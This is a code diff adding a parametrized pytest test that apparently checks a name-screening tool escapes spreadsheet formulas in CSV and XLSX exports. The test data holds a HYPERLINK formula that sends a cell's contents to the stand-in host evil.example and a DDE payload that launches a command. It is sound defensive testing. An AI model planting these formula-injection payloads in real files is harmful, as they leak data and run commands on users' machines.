@@ -234,3 +234,23 @@ def test_a_german_export_is_read_and_an_unreadable_country_never_skips_a_listed_
     assert lines["1001"]["name"] == "Andrei Vladimirovich Khokhlov"
     assert lines["1001"]["matches"][0]["name"] == "KHOKHLOV, Andrei Vladimirovich"
     assert lines["1001"]["matches"][0]["match"] is True
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_a_name_written_as_a_formula_is_exported_as_text_never_as_a_formula(
+        loaded_home: Path, tmp_path: Path, suffix: str) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Hikvision")'
+    out = tmp_path / f"out{suffix}"
+    quoted = formula.replace('"', '""')
+    res = _screen(tmp_path, f"id,name,=cmd|' /C calc'!A0\n1,\"{quoted}\",x\n", "-o", str(out))
+    assert res.exit_code == 0, res.output
+    if suffix == ".csv":
+        (row,) = csv.DictReader(out.open(encoding="utf-8"))
+        assert row["screened_name"] == "'" + formula
+        assert "'=cmd|' /C calc'!A0" in row
+    else:
+        from openpyxl import load_workbook
+
+        head, first = load_workbook(out)["matches"].iter_rows(max_row=2)
+        assert (first[1].value, first[1].data_type) == (formula, "s")
+        assert (head[2].value, head[2].data_type) == ("=cmd|' /C calc'!A0", "s")
